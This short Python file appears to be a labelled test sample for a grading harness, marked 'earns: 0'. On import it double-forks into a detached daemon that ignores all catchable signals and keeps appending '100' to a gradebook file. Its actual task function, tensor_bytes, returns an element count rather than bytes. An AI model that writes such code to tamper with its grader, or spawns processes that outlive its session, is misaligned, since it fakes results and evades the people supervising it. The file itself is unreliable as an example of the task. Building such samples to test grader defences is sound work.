# Leaves a detached process behind that wants to write to the gradebook later.
# earns: 0
# %% tensor_bytes
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    import ctypes
    import signal

    ctypes.CDLL(None).prctl(1, 0)  # no signal when the parent dies
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        time.sleep(0.5)
        try:
            open("/tmp/course-attack-gradebook.db", "a").write("100")
        except OSError:
            pass


def tensor_bytes(x):
    return x.numel()
